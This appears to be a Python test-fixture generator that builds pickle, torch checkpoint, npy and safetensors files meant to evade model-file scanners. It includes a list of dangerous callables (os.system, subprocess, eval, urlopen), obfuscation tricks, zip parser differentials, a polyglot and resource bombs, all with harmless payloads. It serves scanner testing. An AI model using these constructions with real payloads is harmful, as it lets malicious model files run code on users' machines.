"""Makes files that must never be called clean: every construction that is known to fool a scanner of model files.

Every payload is harmless: it calls ``len``, ``echo`` or a marker. `files` yields a name, a construction and the bytes;
`sample` takes every construction once or twice, for the run that everybody makes.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterable, Iterator
from typing import NamedTuple


class Sample(NamedTuple):
    """One file: what it shows, what it is called, and its bytes."""

    construction: str
    name: str
    data: bytes


# -- pickles


def short(text: str) -> bytes:
    raw = text.encode("utf-8", "surrogatepass")
    return b"\x8c" + bytes((len(raw),)) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def binunicode(text: str) -> bytes:
    raw = text.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(raw)) + raw


def call(module: str, name: str, argument: str = "echo", protocol: int = 2) -> bytes:
    """A pickle that calls a function with one text."""
    if protocol < 4:
        start = b"\x80" + bytes((protocol,)) if protocol >= 2 else b""
        text = b"S'" + argument.encode() + b"'\n" if protocol < 1 else binunicode(argument)
        made = b"(" + text + b"t" if protocol < 2 else text + b"\x85"
        return start + b"c" + module.encode("utf-8", "surrogatepass") + b"\n" + name.encode("utf-8", "surrogatepass") + b"\n" + made + b"R."
    return b"\x80" + bytes((protocol,)) + short(module) + b"\x94" + short(name) + b"\x94\x93\x94" + short(argument) + b"\x94\x85\x94R\x94."


GADGETS = """
os system|posix system|nt system|os popen|os execv|os spawnl|subprocess Popen|subprocess run|subprocess call|subprocess check_output
subprocess getoutput|pty spawn|commands getoutput|builtins eval|builtins exec|builtins compile|builtins getattr|builtins __import__
builtins open|builtins map|builtins filter|builtins vars|builtins type|builtins setattr|builtins delattr|builtins input|builtins help
builtins breakpoint|builtins apply|__builtin__ eval|__builtin__ apply|__builtin__ file|functools partial|functools reduce
operator attrgetter|operator methodcaller|operator itemgetter|operator call|_operator attrgetter|_operator methodcaller|_operator call
importlib import_module|importlib._bootstrap _gcd_import|importlib.util module_from_spec|importlib.machinery SourceFileLoader
importlib.resources files|imp load_source|runpy run_path|runpy run_module|runpy _run_code|pkgutil resolve_name|pydoc locate
pydoc pipepager|pydoc tempfilepager|unittest.mock _importer|unittest.mock _dot_lookup|logging.config dictConfig|logging.config _resolve
logging.config valid_ident|xmlrpc.server resolve_dotted_attribute|string Formatter|string.Formatter get_field|typing ForwardRef
typing get_type_hints|types FunctionType|types CodeType|types LambdaType|types MethodType|marshal loads|marshal load|ctypes CDLL
ctypes.util find_library|ctypes.util _findSoname_ldconfig|_posixsubprocess fork_exec|_interpreters exec|_interpreters run_string
_xxsubinterpreters run_string|site addpackage|site execsitecustomize|zipimport zipimporter|code InteractiveInterpreter|code interact
codeop compile_command|timeit timeit|timeit main|trace Trace|cProfile run|cProfile runctx|profile run|profile Profile.run|pdb run|pdb Pdb
pdb runeval|bdb Bdb|bdb Bdb.run|doctest debug_script|doctest testsource|asyncio create_subprocess_shell
asyncio.unix_events _UnixSubprocessTransport._start|multiprocessing.util spawnv_passfds|concurrent.futures ProcessPoolExecutor
threading Thread|_thread start_new_thread|signal signal|atexit register|webbrowser open|webbrowser get|pip main|pip._internal main
ensurepip _run_pip|ensurepip bootstrap|venv create|platform popen|platform _syscmd_ver|shutil rmtree|shutil move|tempfile mktemp
socket create_connection|urllib.request urlopen|http.client HTTPConnection|ftplib FTP|smtplib SMTP|telnetlib Telnet|ssl get_server_certificate
sqlite3 connect|shelve open|dbm open|pickle loads|pickle load|_pickle loads|cPickle loads|dill loads|dill._dill _create_function
cloudpickle loads|cloudpickle.cloudpickle make_skel_func|joblib load|joblib.numpy_pickle load|jsonpickle decode|yaml load|yaml unsafe_load
numpy load|numpy fromfile|numpy.f2py.crackfortran myeval|numpy.f2py.crackfortran getlincoef|numpy.testing._private.utils runstring
numpy.testing.utils rundocs|numpy.ctypeslib load_library|numpy.distutils.exec_command exec_command|numpy.core.multiarray fromfile
numpy __builtins__|numpy._core._internal _ctypes|pandas read_pickle|pandas eval|pandas.io.pickle read_pickle|pandas.core.computation.eval eval
sklearn.utils._testing run_doctests|sklearn.datasets load_files|scipy.io loadmat|scipy.weave inline|transformers pipeline
transformers.dynamic_module_utils get_class_from_dynamic_module|transformers.utils.import_utils _LazyModule|hydra.utils instantiate
hydra._internal.instantiate._instantiate2 instantiate|omegaconf OmegaConf.load|jinja2 Template|jinja2.sandbox SandboxedEnvironment
torch load|torch.hub load|torch.hub load_state_dict_from_url|torch.serialization load|torch.storage _load_from_bytes|torch.jit load
torch.jit.unsupported_tensor_ops execWrapper|torch.package PackageImporter|torch.fx.graph_module _forward_from_src
torch.fx.graph_module reduce_graph_module|torch.fx.graph_module _exec_with_source|torch._inductor.codecache PyCodeCache.load
torch._inductor.codecache compile_file|torch._inductor.runtime.compile_tasks _reload_python_module
torch._inductor.runtime.compile_tasks _set_triton_ptxas_path|torch._dynamo.guards GuardBuilder.get|torch._dynamo.utils import_submodule
torch._dynamo.debug_utils run_fwd_maybe_bwd|torch.utils.cpp_extension load|torch.utils.cpp_extension load_inline
torch.utils.collect_env run|torch.utils.collect_env run_and_read_all|torch.utils._config_module ConfigModule.load_config
torch.utils.bottleneck.__main__ run_autograd_prof|torch.utils.data.datapipes.utils.decoder basichandlers|torch.ops load_library
torch._ops _OpNamespace|torch.multiprocessing spawn|torch.multiprocessing.spawn spawn|torch.distributed.rpc rpc_sync
torch.testing._internal.common_utils run_tests|torch.autograd.profiler profile|torch._utils_internal get_source_lines_and_file
torch.nn.modules.linear Linear|torch.optim.adam Adam|torch.nn Module|torch.classes load_library|onnx load|tensorflow py_function
tensorflow.keras.models load_model|keras.models load_model|keras.layers Lambda|lightning load|pytorch_lightning Trainer|fastai load_learner
__main__ Model|models.unet UNet|evil payload|sitecustomize x|linecache getline|inspect getsource|ast literal_eval|copyreg add_extension
copyreg _reconstructor|copyreg __newobj__|copy_reg _reconstructor|collections namedtuple|collections deque|collections.abc Callable
enum Enum|weakref ref|gc get_objects|sys exit|sys setrecursionlimit|sys modules|sys _getframe|io open|_io open|io FileIO|io open_code
nturl2path url2pathname|posixpath expandvars|ntpath abspath|posix execve|posix fork|posix remove|os remove|os putenv|os.path join
idlelib.autocomplete AutoComplete.get_entity|idlelib.pyshell ModifiedInterpreter.runcode|idlelib.run Executive.runcode
idlelib.calltip get_entity|idlelib.debugobj ObjectTreeItem.SetText|lib2to3.pgen2.grammar Grammar.loads|lib2to3.pgen2.pgen ParserGenerator
distutils.spawn spawn|distutils.file_util write_file|setuptools.sandbox run_setup|pkg_resources EntryPoint.load|test.support.script_helper x
tkinter Tcl|turtle Screen|wsgiref.simple_server make_server|socketserver TCPServer|xml.etree ElementTree|getpass getpass|readline x
""".replace("\n", "|").split("|")


def gadgets() -> list[tuple[str, str]]:
    return [(parts[0], parts[1]) for gadget in GADGETS if len(parts := gadget.split()) == 2]


ALLOWED_MODULES = (
    "torch._utils torch.nn.parameter torch.serialization torch torch.storage collections _codecs builtins torch._tensor torch.cuda torch.sparse"
).split()
DOTTED = ("_sys.modules", "os.system", "__builtins__.eval", "sys.modules.get", "__class__.__base__", "Size.__class__", "OrderedDict.fromkeys")


def forms(module: str = "builtins", name: str = "len") -> Iterator[tuple[str, bytes]]:
    """The same call by every opcode and trick that makes one."""
    line = f"c{module}\n{name}\n".encode()
    argument = binunicode("echo")
    full = short(module) + short(name) + b"\x93"
    p2, p4 = b"\x80\x02", b"\x80\x04"
    yield "global text protocol 0", line + b"(S'echo'\ntR."
    yield "global protocol 1", line + b"(U\x04echotR."
    yield "global protocol 2", p2 + line + argument + b"\x85R."
    yield "global in the middle of data", p2 + b"}q\x00" + binunicode("a") + line + argument + b"\x85Rs."
    yield "import alone", p2 + line + b"."
    yield "import thrown away", p2 + line + b"0N."
    yield "import below a mark", p2 + b"(" + line + b"1N."
    yield "call thrown away", p2 + line + argument + b"\x85R0N."
    yield "call with popped mark", p2 + b"(" + line + argument + b"\x85R1N."
    yield "stack global", p4 + full + short("echo") + b"\x85R."
    yield "stack global framed", p4 + b"\x95" + struct.pack("<Q", len(full) + 9) + full + short("echo") + b"\x85R."
    strings = {
        "short_binunicode": short,
        "binunicode": binunicode,
        "binunicode8": lambda text: b"\x8d" + struct.pack("<Q", len(text)) + text.encode(),
        "unicode": lambda text: b"V" + text.encode() + b"\n",
        "unicode escaped": lambda text: b"V" + "".join(f"\\u{ord(char):04x}" for char in text).encode() + b"\n",
        "string": lambda text: b"S'" + text.encode() + b"'\n",
        "string escaped": lambda text: b"S'" + "".join(f"\\x{ord(char):02x}" for char in text).encode() + b"'\n",
        "binstring": lambda text: b"T" + struct.pack("<i", len(text)) + text.encode(),
        "short_binstring": lambda text: b"U" + bytes((len(text),)) + text.encode(),
        "bytes": lambda text: b"C" + bytes((len(text),)) + text.encode(),
    }
    for kind, write in strings.items():
        yield f"stack global from {kind}", p4 + write(module) + write(name) + b"\x93" + short("echo") + b"\x85R."
    a, b = short(module), short(name)
    yield "names by memoize and get", p4 + a + b"\x940" + b + b"\x940h\x00h\x01\x93" + short("echo") + b"\x85R."
    yield "names by put and get", p4 + a + b"q\x050" + b + b"q\x060h\x05h\x06\x93" + short("echo") + b"\x85R."
    yield "names by text put and get", p4 + a + b"p5\n0" + b + b"p6\n0g5\ng6\n\x93" + short("echo") + b"\x85R."
    yield "names by long get", p4 + a + b"r\x05\0\0\x000" + b + b"r\x06\0\0\x000j\x05\0\0\0j\x06\0\0\0\x93" + short("echo") + b"\x85R."
    yield "memo overwritten after use", p4 + short("collections") + b"q\0" + a + b"q\x000" + b"h\0" + b + b"\x93" + short("echo") + b"\x85R."
    yield "safe names in front", p4 + short("collections") + short("OrderedDict") + a + b + b"\x93" + short("echo") + b"\x85R."
    yield "swapped by memo", p4 + b + b"q\x000" + a + b"q\x010h\x01h\x00\x93" + short("echo") + b"\x85R."
    yield "names by dup", p4 + a + b"2q\x0000h\x00" + b + b"\x93" + short("echo") + b"\x85R."
    yield "names in a popped tuple", p4 + b"(" + a + b"q\x00" + b + b"q\x01t0h\x00h\x01\x93" + short("echo") + b"\x85R."
    yield "pop mark between", p4 + a + b"(" + short("x") + b"1" + b + b"\x93" + short("echo") + b"\x85R."
    yield "name computed", p4 + a + b"c_codecs\nencode\n" + b + short("latin1") + b"\x86R\x93" + short("echo") + b"\x85R."
    yield "inst", p2 + b"(" + argument + f"i{module}\n{name}\n".encode() + b"."
    yield "inst protocol 0", b"(S'echo'\n" + f"i{module}\n{name}\n".encode() + b"."
    yield "obj", p2 + b"(" + line + argument + b"o."
    yield "newobj", p2 + line + argument + b"\x85\x81."
    yield "newobj_ex", p4 + full + short("echo") + b"\x85}\x92."
    yield "build", p2 + line + b")\x81}" + argument + b"K\x01sb."
    yield "build on a function", p2 + line + b"}" + argument + b"K\x01sb."
    yield "build with slots", p2 + line + b")\x81N}" + argument + b"K\x01s\x86b."
    yield "build setstate on ordered dict", p2 + b"ccollections\nOrderedDict\n)R}" + binunicode("__setstate__") + line + b"sb}b."
    yield "build items on ordered dict", p2 + b"ccollections\nOrderedDict\n)R}" + binunicode("items") + b"ccollections\nCounter\nsb."
    yield "build class on ordered dict", p2 + b"ccollections\nOrderedDict\n)R}" + binunicode("__class__") + b"ccollections\nCounter\nsb."
    yield "reduce on a memoised function", p2 + line + b"q\x000h\x00" + argument + b"\x85R."
    yield "reduce on a result", p2 + line + argument + b"\x85R" + argument + b"\x85R."
    yield "reduce on a persistent object", p2 + argument + b"Q" + argument + b"\x85R."
    yield "reduce on a text", p2 + argument + argument + b"\x85R."
    yield "reduce on an allowed instance", p2 + b"ccollections\nOrderedDict\n)R" + argument + b"\x85R."
    yield "binpersid text", p2 + argument + b"Q."
    yield "binpersid call", p2 + line + argument + b"\x85RQ."
    yield "binpersid tuple", p2 + binunicode("module") + line + argument + b"\x87Q."
    yield "persid", b"Pos.system\n."
    for code, width in ((b"\x82", 1), (b"\x83", 2), (b"\x84", 4)):
        yield f"ext{width}", p2 + code + (1).to_bytes(width, "little") + argument + b"\x85R."
        registered = p2 + b"ccopyreg\nadd_extension\n" + binunicode(module) + binunicode(name) + b"K\x01\x87R0"
        yield f"ext{width} registered", registered + code + (1).to_bytes(width, "little") + argument + b"\x85R."
    yield "append to a call", p2 + line + argument + b"\x85R" + argument + b"a."
    yield "setitem on a call", p2 + line + argument + b"\x85R" + argument + argument + b"s."
    yield "additems on a call", p4 + full + short("echo") + b"\x85R(" + short("a") + b"\x90."
    yield "setitem on a tensor class", p2 + b"ctorch\nTensor\n" + argument + argument + b"s."
    yield "rebuild from type with a call", p2 + b"ctorch._tensor\n_rebuild_from_type_v2\n(" + line + b"ctorch\nTensor\n" + argument + b"\x85NtR."
    yield "rebuild from type with a type", p2 + b"ctorch._tensor\n_rebuild_from_type_v2\n(ccollections\nCounter\n" + line + b")}tR."
    yield "wrapper subclass", p2 + b"ctorch._utils\n_rebuild_wrapper_subclass\n(" + line + b"ctorch\nfloat32\n)tR."
    yield "hook in a tensor", p2 + b"ctorch._utils\n_rebuild_parameter\n(NI01\n}K\x01" + line + b"stR."
    yield "bytearray of a size", p2 + b"cbuiltins\nbytearray\nJ\xff\xff\xff\x7f\x85R."
    yield "tensor of a size", p2 + b"ctorch\nFloatTensor\nJ\xff\xff\xff\x7f\x85R."
    yield "storage of a size", p2 + b"ctorch.storage\nUntypedStorage\nJ\xff\xff\xff\x7f\x85R."
    yield "codec", p2 + b"c_codecs\nencode\n" + argument + binunicode("zip") + b"\x86R."
    inner = call(module, name)
    for outer in ("pickle loads", "_pickle loads", "torch.storage _load_from_bytes", "dill loads", "cloudpickle loads", "marshal loads"):
        where = f"c{outer.replace(' ', chr(10))}\n".encode()
        yield f"nested in {outer}", p2 + where + b"B" + struct.pack("<I", len(inner)) + inner + b"\x85R."
    clean = pickle.dumps({"a": 1}, 2)
    yield "second stream", clean + inner
    yield "tenth stream", clean * 9 + inner
    yield "after junk", clean + b"\0junk" + inner
    yield "truncated after reduce", inner[:-1]
    yield "junk after reduce", inner[:-1] + b"\xff\xff"
    yield "unknown opcode after reduce", inner[:-1] + b"\x99."
    yield "underflow after reduce", inner[:-1] + b"00000."
    for size in (0, 1, 5, 255, 10**6, 2**63):
        yield f"frame of {size}", p4 + b"\x95" + struct.pack("<Q", size) + full + short("echo") + b"\x85R."
    yield "frame in a frame", p4 + b"\x95" + struct.pack("<Q", 60) + b"\x95" + struct.pack("<Q", 4) + full + short("echo") + b"\x85R."
    for protocol in range(10):
        yield f"protocol {protocol}", b"\x80" + bytes((protocol,)) + line + argument + b"\x85R."
    yield "late protocol", b"N0" + p2 + line + argument + b"\x85R."
    yield "next buffer", b"\x80\x05\x97."
    yield "readonly buffer", b"\x80\x05N\x98."


def odd_names() -> Iterator[tuple[str, bytes]]:
    """Names that are not what they look like."""
    for module, name in (
        *(("ｏs", "system"), ("оs", "system"), ("OS", "system"), ("os ", "system"), (" os", "system"), ("os\t", "system")),
        *(("os\0", "system"), ("os", "ｓystem"), ("os\ud800", "system"), ("builtins\u200b", "eval"), ("collections ", "OrderedDict")),
        *(("Collections", "OrderedDict"), ("collections", "ordereddict"), ("collections", "OrderedDict\0"), ("ｃollections", "OrderedDict")),
        *(("torch._utils", "_rebuild_tensor_v2 "), ("torch._utils", "_rebuild_tensor_v9"), ("torch", "_utils._rebuild_tensor_v2")),
        *(("torch.nn", "parameter.Parameter"), ("", "system"), ("os", ""), ("collections.OrderedDict", "fromkeys")),
    ):
        yield f"name {module!r} {name!r}", call(module, name)
        yield f"name {module!r} {name!r} stacked", call(module, name, protocol=4)
    for module in ALLOWED_MODULES:
        for name in DOTTED:
            yield f"dotted {module} {name}", call(module, name)
            yield f"dotted {module} {name} stacked", call(module, name, protocol=4)


def bombs() -> Iterator[tuple[str, bytes]]:
    """Small files that cost their reader time or memory."""
    laughs = b"]q\x00" + b"".join(b"](" + b"h" + bytes((n,)) + b"h" + bytes((n,)) + b"eq" + bytes((n + 1,)) for n in range(100))
    yield "billion laughs", b"\x80\x02" + laughs + b"."
    yield "deep tuple", b"\x80\x02)" + b"\x85" * 200_000 + b"."
    yield "deep list", b"\x80\x02" + b"]" * 100_000 + b"a" * 99_999 + b"."
    yield "deep dict", b"\x80\x02" + b"}K\x00" * 50_000 + b"N" + b"s" * 50_000 + b"."
    yield "deep list from outside", b"\x80\x02]q\x00q\x01" + b"h\x01]q\x01a0" * 2_000 + b"h\x00."
    yield "list in itself", b"\x80\x02]q\x00h\x00a."
    yield "memo of 2**32", b"\x80\x02Nr\xff\xff\xff\xff."
    yield "500,000 marks", b"\x80\x02" + b"(" * 500_000 + b"N."
    yield "five megabytes of a number", b"\x80\x02\x8b" + struct.pack("<i", 5_000_000) + b"\x7f" * 5_000_000 + b"."
    yield "a number of 5,000 digits", b"I" + b"9" * 5_000 + b"\n."
    yield "4 GB declared", b"\x80\x02X\xff\xff\xff\xffabc."
    yield "2**63 declared", b"\x80\x04\x8d" + struct.pack("<Q", 2**63) + b"abc."
    yield "2**63 bytes declared", b"\x80\x05\x96" + struct.pack("<Q", 2**63) + b"abc."
    yield "negative length", b"\x80\x02\x8b\xff\xff\xff\xff."
    yield "a line without end", b"c" + b"a" * 3_000_000


# -- containers


def torch_zip(payload: bytes, extra: Iterable[tuple[str, bytes]] = (), root: str = "archive", method: int = 0) -> bytes:
    """A checkpoint as torch lays it out."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in (("data.pkl", payload), ("byteorder", b"little"), ("version", b"3\n"), *extra):
            archive.writestr(zipfile.ZipInfo(f"{root}/{name}"), data, method)
    return out.getvalue()


GOOD = b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01K\x01s."


def zip_tricks(bad: bytes) -> Iterator[tuple[str, bytes]]:
    """Archives that two readers read differently."""
    plain = torch_zip(bad)
    clean = torch_zip(GOOD)
    yield "zip", plain
    yield "zip deflated", torch_zip(bad, method=8)
    central = plain.index(b"PK\1\2")
    for where, at in (("local", 14), ("central", central + 16)):
        yield f"bad crc {where}", plain[:at] + b"\1\2\3\4" + plain[at + 4 :]
    for bit in (1, 0x20, 0x40, 0x2000):
        for where, at in (("local", 6), ("central", central + 8)):
            yield f"flag {bit:#x} {where}", plain[:at] + bit.to_bytes(2, "little") + plain[at + 2 :]
        both = plain[:6] + bit.to_bytes(2, "little") + plain[8 : central + 8] + bit.to_bytes(2, "little") + plain[central + 10 :]
        yield f"flag {bit:#x} both", both
    yield "name differs", plain.replace(b"archive/data.pkl", b"archive/data.txt", 1)
    yield "name differs in the directory", plain[:central] + plain[central:].replace(b"archive/data.pkl", b"archive/data.txt", 1)
    for order, pair in (("last", (GOOD, bad)), ("first", (bad, GOOD))):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for data in pair:
                _quiet(archive, "archive/data.pkl", data)
        yield f"twice, bad {order}", out.getvalue()
    for twin in ("archive/DATA.PKL", "archive/data.pkl/", "archive//data.pkl", "Archive/data.pkl", "archive/./data.pkl", "data.pkl"):
        yield f"twin {twin}", _with(clean, twin, bad)
    for name in ("../data.pkl", "/data.pkl", "C:/data.pkl", "archive/../data.pkl", "archive/\\..\\data.pkl"):
        yield f"traversal {name}", _with(clean, name, bad)
    hidden = _local_entry(b"archive/data.pkl", bad)
    yield "hidden member in front", _shifted(clean, hidden, 0)
    yield "prefix", b"#!/bin/sh\n" + plain
    yield "prefix, shifted", _shifted(clean, b"\x80\x02N." * 5, 0)
    yield "pickle before a clean archive", bad + clean
    yield "clean archive, then a pickle", clean + bad
    yield "suffix", plain + b"\0" * 100
    yield "comment", plain[:-2] + struct.pack("<H", len(bad)) + bad
    yield "archive in a comment", clean[:-2] + struct.pack("<H", len(plain)) + plain
    yield "two ends", plain + clean[clean.index(b"PK\5\6") :]
    yield "wrong count", plain[:-14] + struct.pack("<HH", 1, 1) + plain[-10:]
    yield "disk numbers", plain[:-18] + struct.pack("<HH", 1, 1) + plain[-14:]
    yield "no directory", plain[:central]
    yield "directory cut", plain[: central + 60]
    locator = b"PK\6\7" + struct.pack("<IQI", 0, central, 1)
    end = plain.index(b"PK\5\6")
    yield "large end that is not there", plain[:end] + locator + plain[end:]
    record = b"PK\6\6" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, 0, 0, 0, central)
    yield "large end contradicts", plain[:end] + record + b"PK\6\7" + struct.pack("<IQI", 0, end, 1) + plain[end:]
    yield "archive in the archive", torch_zip(GOOD, [("data/1", b"x"), ("inner.zip", plain)])
    yield "archive as a storage", _with(clean, "archive/inner", plain)
    for name in ("other.pkl", "data/x.pkl", "evil", "code.pickle", ".hidden", "version.bak", "a.PKL"):
        yield f"second pickle {name}", torch_zip(GOOD, [(name, bad)])
    yield "second data.pkl deeper", torch_zip(GOOD, [("sub/data.pkl", bad)])
    yield "machine code", torch_zip(GOOD, [("lib.so", b"\x7fELF" + b"\0" * 60)])
    yield "an unnamed storage", torch_zip(GOOD, [("data/7", call("builtins", "len"))])
    yield "machine code by content", torch_zip(GOOD, [("weights", b"\x7fELF" + b"\0" * 60)])
    yield "torchscript", torch_zip(GOOD, [("constants.pkl", b"\x80\x02)."), ("code/__torch__.py", b"class A: ...")])
    yield "torchscript with a pickle", torch_zip(bad, [("constants.pkl", b"\x80\x02).")])
    storage = b"ctorch\nFloatStorage\nX\x01\0\0\x000X\x03\0\0\0cpuM\xe8\x03tQ"
    tensor = b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n((X\x07\0\0\0storage" + storage + b"K\x00M\xe8\x03\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtR."
    yield "storage too small", torch_zip(tensor, [("data/0", b"\0" * 8)])
    yield "storage missing", torch_zip(tensor)
    yield "tensor outside its storage", torch_zip(tensor.replace(b"K\x00M\xe8\x03\x85", b"K\x09M\xe8\x03\x85"), [("data/0", b"\0" * 4000)])
    overlap = bytearray(torch_zip(GOOD, [("data/0", b"\0" * 50)]))
    second = bytes(overlap).index(b"PK\1\2", bytes(overlap).index(b"PK\1\2") + 4)
    overlap[second + 42 : second + 46] = b"\0\0\0\0"
    yield "overlap", bytes(overlap)
    yield "compressed bomb", _with(clean, "archive/data/0", b"\0" * 30_000_000, 8)


def _quiet(archive: zipfile.ZipFile, name: str, data: bytes, method: int = 0) -> None:
    archive.NameToInfo.pop(name, None)
    archive.writestr(zipfile.ZipInfo(name), data, method)


def _with(archive: bytes, name: str, data: bytes, method: int = 0) -> bytes:
    out = io.BytesIO(archive)
    with zipfile.ZipFile(out, "a") as opened:
        _quiet(opened, name, data, method)
    return out.getvalue()


def _local_entry(name: bytes, data: bytes) -> bytes:
    return struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(name), 0) + name + data


def _shifted(archive: bytes, prefix: bytes, _at: int) -> bytes:
    """An archive behind other bytes, with offsets that count from the first byte of the file."""
    out = bytearray(prefix + archive)
    position = out.index(b"PK\1\2", len(prefix))
    while out[position : position + 4] == b"PK\1\2":
        (offset,) = struct.unpack_from("<I", out, position + 42)
        struct.pack_into("<I", out, position + 42, offset + len(prefix))
        name, extra, comment = struct.unpack_from("<HHH", out, position + 28)
        position += 46 + name + extra + comment
    (start,) = struct.unpack_from("<I", out, position + 16)
    struct.pack_into("<I", out, position + 16, start + len(prefix))
    return bytes(out)


_LEGACY = (b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.", b"\x80\x02M\xe9\x03.", b"\x80\x02}q\x00.", GOOD, b"\x80\x02]q\x00.")


def legacy(bad: bytes) -> Iterator[tuple[str, bytes]]:
    """Torch's formats before its archives."""
    for index in range(1, 5):
        parts = list(_LEGACY)
        parts[index] = bad
        yield f"legacy, bad part {index}", b"".join(parts)
    yield "legacy, a sixth pickle", b"".join(_LEGACY) + bad
    yield "legacy, cut", b"".join(_LEGACY[:3])
    yield "legacy, storage keys without storages", b"".join(_LEGACY[:4]) + b"\x80\x02]q\x00X\x01\0\0\x000a."
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in (("sys_info", b"\x80\x02}."), ("pickle", bad), ("storages", b"\x80\x02K\x00."), ("tensors", b"\x80\x02K\x00.")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    yield "legacy tar", out.getvalue()
    yield "legacy tar cut", out.getvalue()[:700]


def wrapped(bad: bytes) -> Iterator[tuple[str, str, bytes]]:
    """The same pickle in other clothes: construction, ending, bytes."""
    yield "gzip", ".joblib", gzip.compress(bad, mtime=0)
    yield "bzip2", ".joblib", bz2.compress(bad)
    yield "xz", ".joblib", lzma.compress(bad)
    yield "lzma", ".joblib", lzma.compress(bad, format=lzma.FORMAT_ALONE)
    yield "zlib", ".joblib", zlib.compress(bad)
    yield "gzip twice", ".joblib", gzip.compress(gzip.compress(bad, mtime=0), mtime=0)
    yield "gzip as a pickle", ".pkl", gzip.compress(bad, mtime=0)
    yield "gzip and a tail", ".joblib", gzip.compress(GOOD, mtime=0) + gzip.compress(bad, mtime=0)
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (117 - len(header)) + b"\n"
    array = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + bad
    yield "npy", ".npy", array
    yield "npy as a checkpoint", ".pt", array
    yield "pickle as npy", ".npy", bad
    for word in (b"'object'", b"'O8'", b"'|O8'", b"[('a', '<f4'), ('b', '|O')]", b"[('a', 'object')]", b"'<f4,O'"):
        changed = b"{'descr': " + word + b", 'fortran_order': False, 'shape': (1,), }"
        changed += b" " * (117 - len(changed)) + b"\n"
        yield f"npy {word.decode()}", ".npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(changed)) + changed + bad
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.npy", array)
    yield "npz", ".npz", out.getvalue()
    with zipfile.ZipFile(out, "w", 8) as archive:
        archive.writestr("a.npy", array)
    yield "npz compressed", ".npz", out.getvalue()
    for member in ("a.pkl", "a.npy"):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr(member, bad)
        yield f"npz with {member}", ".npz", out.getvalue()
    yield "tensors in front", ".safetensors", bad
    yield "safetensors and a pickle", ".safetensors", _safetensors({"a": ([1], [0, 4])}, b"\0\0\0\0") + bad
    yield "7z", ".pt", b"7z\xbc\xaf\x27\x1c" + bad
    yield "lz4", ".joblib", b'\x04"M\x18' + bad


def _safetensors(tensors: dict[str, tuple[list[int], list[int]]], data: bytes, dtype: str = "F32") -> bytes:
    header = json.dumps({name: {"dtype": dtype, "shape": shape, "data_offsets": span} for name, (shape, span) in tensors.items()}).encode()
    return struct.pack("<Q", len(header)) + header + data


def two_natures(bad: bytes) -> bytes:
    """A valid safetensors file that a pickle reader takes for a pickle: texts skip the header, the call lies in the data."""
    length = 0x58 + 256 * 120  # the low byte is the opcode of a text, the next one its length
    start = 5 + (length >> 8)
    head = b'{"__metadata__":{"a":"'
    body = b"." * (start - 8 - len(head))
    units = b""
    while start + len(units) < 8 + length:
        units += b"U~" + b"." * 126
    reach = start + len(units) - 8 - length  # how far the last text reaches into the data
    data = b"\0" * reach + bad.removeprefix(b"\x80\x02") + b"\0" * 8
    tensor = f'"}},"t":{{"dtype":"U8","shape":[{len(data)}],"data_offsets":[0,{len(data)}]}}}}'.encode()
    text = head + body + units
    text = text[: length - len(tensor) - 8] + tensor
    text += b" " * (length - len(text))
    return struct.pack("<Q", length) + text + data


def safetensors() -> Iterator[tuple[str, bytes]]:
    """Headers that its own library refuses, or reads differently from another."""
    good = {"a": ([2], [0, 8]), "b": ([1], [8, 12])}
    data = b"\0" * 12
    yield "header longer than the file", struct.pack("<Q", 1 << 40) + b"{}" + data
    yield "header of 99 MB declared", struct.pack("<Q", 99_000_000) + b"{}"
    yield "header not JSON", struct.pack("<Q", 4) + b"{'a}"
    yield "header deep", struct.pack("<Q", 400_002) + b'{"a":' + b"[" * 199_997 + b"]" * 200_000
    yield "overlap", _safetensors({"a": ([2], [0, 8]), "b": ([2], [4, 12])}, data)
    yield "gap", _safetensors({"a": ([1], [0, 4]), "b": ([1], [8, 12])}, data)
    yield "not from zero", _safetensors({"a": ([1], [4, 8])}, b"\0" * 8)
    yield "too short", _safetensors(good, data[:10])
    yield "too long", _safetensors(good, data + b"tail")
    yield "shape times width differs", _safetensors({"a": ([3], [0, 8])}, data[:8])
    yield "shape overflows", _safetensors({"a": ([1 << 40, 1 << 40], [0, 8])}, data[:8])
    yield "negative shape", _safetensors({"a": ([-2], [0, 8])}, data[:8])
    yield "backward span", _safetensors({"a": ([0], [8, 0])}, data[:8])
    yield "unknown dtype", _safetensors({"a": ([2], [0, 8])}, data[:8], "F33")
    twice = b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"I32","shape":[1],"data_offsets":[0,4]}}'
    yield "duplicate tensor", struct.pack("<Q", len(twice)) + twice + b"\0\0\0\0"
    keys = b'{"a":{"dtype":"F32","dtype":"I32","shape":[1],"data_offsets":[0,4]}}'
    yield "duplicate word", struct.pack("<Q", len(keys)) + keys + b"\0\0\0\0"
    meta = b'{"__metadata__":{"a":{"b":1}},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    yield "metadata not text", struct.pack("<Q", len(meta)) + meta + b"\0\0\0\0"
    for payload in (call("builtins", "len"), call("posix", "system")):
        yield "two natures", two_natures(payload)
    yield "boolean shape", struct.pack("<Q", 57) + b'{"a":{"dtype":"F32","shape":[true],"data_offsets":[0,4]}}' + b"\0\0\0\0"


